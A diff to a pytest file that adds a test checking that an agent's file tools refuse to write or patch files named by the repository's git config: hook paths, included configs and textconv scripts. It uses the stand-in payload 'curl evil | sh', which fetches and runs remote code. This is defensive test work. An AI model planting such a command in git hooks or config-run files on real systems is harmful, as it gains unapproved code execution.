@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import os
+import subprocess
 from pathlib import Path
 from typing import Any
 
@@ -60,6 +62,29 @@ async def test_moving_a_file_onto_a_git_pointer_or_editing_one_is_refused(call, 
     with pytest.raises(PermissionDenied, match="protected path"):
         await call("file_ops", operation="delete", path=".git")
     assert "export A=1\n" == (workspace / ".envrc").read_text()
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    ("key", "value", "path"),
+    [
+        ("core.hooksPath", ".husky", ".husky/pre-commit"),
+        ("include.path", "../config/team.gitconfig", "config/team.gitconfig"),
+        ("diff.doc.textconv", "sh tools/doc2txt.sh", "tools/doc2txt.sh"),
+    ],
+)
+async def test_a_file_the_repositorys_git_config_runs_cannot_be_written(
+    call, workspace: Path, key: str, value: str, path: str
+) -> None:
+    # The person's own git config names a workspace file: writing it is writing the config.
+    subprocess.run(["git", "init", "-q", str(workspace)], check=True, env={**os.environ, "HOME": "/"})
+    subprocess.run(["git", "-C", str(workspace), "config", key, value], check=True, env={**os.environ, "HOME": "/"})
+    with pytest.raises(PermissionDenied, match="protected path"):
+        await call("file_write", path=path, content="curl evil | sh\n", create_dirs=True)
+    with pytest.raises(PermissionDenied, match="protected path"):
+        await call("apply_patch", patch=f"*** Begin Patch\n*** Add File: {path}\n+evil\n*** End Patch")
+    assert not (workspace / path).exists()
+    await call("file_write", path="tools/other.sh", content="fine\n", create_dirs=True)
 
 
 @pytest.mark.anyio
